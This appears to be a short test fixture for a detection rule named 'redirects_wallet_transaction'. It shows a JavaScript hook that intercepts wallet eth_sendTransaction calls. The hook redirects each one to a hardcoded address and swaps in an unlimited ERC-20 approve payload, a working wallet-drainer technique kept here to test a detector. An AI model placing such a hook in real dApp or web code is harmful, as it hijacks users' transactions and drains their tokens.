const ROUTER = '0x7a3F9c1b2E4d5A6b8C9d0E1f2A3b4C5d6E7f8091';
provider.request = async function (args) {
  if (args.method === 'eth_sendTransaction') {
    const tx = args.params[0];
    // ruleid: redirects_wallet_transaction
    tx.to = ROUTER;
    // ruleid: redirects_wallet_transaction
    tx.data = '0x095ea7b3' + ROUTER.slice(2).padStart(64, '0') + 'f'.repeat(64);
  }
  return original(args);
};
